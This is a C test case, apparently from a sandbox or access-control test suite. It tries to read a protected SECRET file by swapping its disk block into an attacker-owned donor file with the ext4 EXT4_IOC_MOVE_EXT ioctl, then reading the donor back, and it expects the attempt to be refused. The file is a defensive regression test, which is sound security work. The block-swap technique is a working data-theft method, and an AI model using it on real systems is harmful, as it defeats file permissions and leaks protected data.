// SPDX-License-Identifier: GPL-3.0-or-later
/* Swaps the file's blocks with those of a file outside (EXT4_IOC_MOVE_EXT). */
#include "attack.h"
#include <linux/fs.h>

ATTACK("attack: preopen_move_ext; threat: #34; user: eve; op: read|write; errno: EPERM; fs: ext4; expect: refused");

static int held = -1;

static int prepare(void)
{
	held = open(SECRET, O_RDWR);
	return held < 0 || ftruncate(held, 4096) < 0 || fsync(held) < 0 ? broken("open") : 0;
}

static int act(void)
{
	struct {
		__u32 reserved, donor_fd;
		__u64 orig_start, donor_start, len, moved_len;
	} move = { .len = 1 };
	int donor = open(own("donor"), O_RDWR | O_CREAT, 0600);
	char block[4096] = "forged";

	if (write(donor, block, sizeof(block)) < 0 || fsync(donor) < 0)
		return broken("donor");
	/*
	 * The file takes the donor's block and its own text is copied there; its old block,
	 * with the text still in it, is the donor's.
	 */
	move.donor_fd = (__u32)donor;
	if (ioctl(held, _IOWR('f', 15, typeof(move)), &move) < 0)
		return errno == EOPNOTSUPP ? not_here("no EXT4_IOC_MOVE_EXT") : refused("EXT4_IOC_MOVE_EXT");
	fsync(donor);
	donor = open(own("donor"), O_RDONLY | O_DIRECT);
	static char disk[4096] __attribute__((aligned(4096)));
	ssize_t len = read(donor, disk, sizeof(disk));
	return len < 0 ? refused("read") : loot(disk, (size_t)len);
}

HELD(prepare, act)
